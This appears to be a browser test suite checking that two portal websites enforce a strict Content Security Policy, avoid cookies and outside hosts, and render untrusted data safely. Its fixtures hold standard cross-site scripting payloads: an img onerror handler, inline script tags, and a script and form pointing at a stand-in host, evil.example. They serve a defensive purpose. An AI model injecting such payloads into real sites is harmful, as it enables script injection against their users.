// What a page may run and load, and what it never does.
import assert from "node:assert/strict";
import { counted, eventually, seen } from "./support/expect.mjs";
import { baiyun, words, xinghe } from "./support/site.mjs";
import { test, tests } from "./support/visit.mjs";

const everyPage = (site) => [...["zh-Hans", "en"].flatMap((tag) => [...site.pages(tag), ...site.embedded(tag), ...site.staff(tag)]), "404.html"];
/** The HTML of a page as the host sends it. */
const source = async (visit, path) => (await visit.context.request.get(visit.host.url(path))).text();

tests(
  [baiyun, xinghe],
  (site) => `the HTML of ${site.name} has no style attribute, no inline handler, and its policy before all else`,
  (site) => ({ site }),
  async (visit, site) => {
    for (const path of everyPage(site)) {
      const html = await source(visit, path);
      const tags = html.match(/<[a-z][^>]*>/gi);
      assert.deepEqual(tags.filter((tag) => /\s(style|on[a-z]+)\s*=/i.test(tag)), [], path);
      assert.deepEqual(tags.filter((tag) => /javascript:/i.test(tag)), [], path);
      const policy = tags.findIndex((tag) => tag.includes('http-equiv="Content-Security-Policy"'));
      const loads = tags.findIndex((tag) => /^<(script|link|style|base|img)\b/.test(tag));
      assert.ok(policy >= 0 && policy < loads, `${path} states its policy before it loads anything`);
      // The one stranger: pictures of a complete tile source.
      const tiles = (site.portal.tiles ?? []).map(({ url }) => ` ${new URL(url).origin}; `);
      const own = tiles.reduce((rest, origin) => rest.replace(`img-src 'self' data:${origin}`, ""), tags[policy]);
      assert.doesNotMatch(own, /unsafe-inline|'unsafe-eval'|https?:|\*/, path);
      assert.match(tags[policy], /default-src 'none'/, path);
    }
  },
);

tests(
  [baiyun, xinghe],
  (site) => `no address in the HTML of ${site.name} begins at the host's root`,
  (site) => ({ site }),
  async (visit, site) => {
    for (const path of everyPage(site)) {
      const html = await source(visit, path);
      const addresses = [...html.matchAll(/\s(?:href|src|action|content)="([^"]*)"/g)].map(([, address]) => address);
      assert.deepEqual(addresses.filter((address) => address.startsWith("/")), [], path);
      const own = addresses.filter((address) => /^https?:/.test(address) && site.portal.site_url && address.startsWith(site.portal.site_url));
      const body = html.slice(html.indexOf("<body"));
      // The builder shows code for other sites, which needs the whole address.
      if (path !== "404.html" && !path.endsWith("embed/build/")) {
        assert.deepEqual(own.filter((address) => body.includes(`"${address}"`)), [], `${path} names its own address in the head only`);
      }
    }
  },
);

test("only a portal that knows its address states it, in each language", { site: xinghe }, async (visit) => {
  await visit.open("en/centres/tianqin/");
  const url = xinghe.portal.site_url;
  const of = (selector) => visit.page.locator(selector).getAttribute("href");
  assert.equal(await of("link[rel=canonical]"), `${url}en/centres/tianqin/`);
  assert.equal(await of("head link[hreflang=en]"), `${url}en/centres/tianqin/`);
  assert.equal(await of("head link[hreflang=zh-Hans]"), `${url}centres/tianqin/`);
  assert.equal(await of("head link[hreflang=x-default]"), `${url}centres/tianqin/`);
});

test("a portal that does not know its address leaves such tags out", {}, async (visit) => {
  await visit.open();
  await counted(visit.page.locator("link[rel=canonical], head link[hreflang]"), 0);
});

const REFUSED = /Content Security Policy/;

tests(
  [
    { what: "an inline script", add: () => {
      const script = document.createElement("script");
      script.textContent = "window.ran = true";
      document.body.append(script);
    } },
    { what: "an inline handler", add: () => {
      const image = document.createElement("img");
      image.setAttribute("onerror", "window.ran = true");
      image.src = "data:,";
      document.body.append(image);
    } },
    { what: "a script of another host", add: () => {
      const script = document.createElement("script");
      script.src = "https://evil.example/x.js";
      document.body.append(script);
    } },
    { what: "evaluated text", add: () => {
      try {
        // Not by the test's own means: those are not the page's.
        window.setTimeout("window.ran = true", 0);
      } catch {}
    } },
    { what: "a form that is sent away", add: () => {
      const form = document.createElement("form");
      form.action = "https://evil.example/";
      document.body.append(form);
      form.submit();
    } },
  ],
  ({ what }) => `${what} in the page is refused`,
  // The browser tells of what it was asked for, also where it refused.
  { allow: [REFUSED, /evil\.example/] },
  async (visit, { add }) => {
    await visit.page.addInitScript(() => {
      document.addEventListener("securitypolicyviolation", () => {
        window.refused = true;
      });
    });
    await visit.open();
    await visit.page.evaluate(add);
    await eventually(() => visit.page.evaluate(() => window.refused), true);
    assert.equal(await visit.page.evaluate(() => window.ran), undefined);
    assert.equal(visit.page.url(), visit.host.url());
  },
);

const planted = (text) =>
  text.replaceAll("京溪家综", "<img src=x onerror=alert(1)>京溪家综").replaceAll("探索有偿", "<script>window.ran=true</script>探索有偿");

test("data cannot put markup or scripts into the page", {
  faults: { [baiyun.path("centres")]: { body: planted }, [baiyun.path("find")]: { body: planted } },
}, async (visit) => {
  await visit.open();
  await seen(visit.cards.getByText("<img src=x onerror=alert(1)>京溪家综"));
  await visit.search.fill("京溪");
  await seen(visit.options.filter({ hasText: "<img src=x onerror=alert(1)>京溪家综" }).first());
  await counted(visit.page.locator("img"), 0);
  await visit.open("centres/jingxi/");
  await seen(visit.page.getByText("<script>window.ran=true</script>探索有偿"));
});

test("a client that was changed on its way is not run", {
  faults: { [baiyun.glue]: { body: (text) => `window.ran = true;\n${text}` } },
  allow: [/integrity/],
}, async (visit) => {
  await visit.open("", { until: "failed" });
  assert.equal(await visit.page.evaluate(() => window.ran), undefined);
});

test("a whole visit sets no cookie and asks no other host", { site: xinghe }, async (visit) => {
  await visit.open("?elder=1");
  await visit.search.fill("天琴");
  await seen(visit.options);
  await visit.search.press("Tab");
  await visit.page.getByRole("link", { name: words["zh-Hans"].act_go }).click();
  await visit.page.getByRole("link", { name: "天琴家综" }).first().click();
  await visit.at("centres/tianqin/?elder=1");
  await visit.page.getByRole("link", { name: "English", exact: true }).click();
  await visit.reaches("live");
  assert.deepEqual(await visit.context.cookies(), []);
  const workers = await visit.page.evaluate(() => navigator.serviceWorker?.getRegistrations().then((all) => all.length));
  assert.equal(workers ?? 0, 0);
});
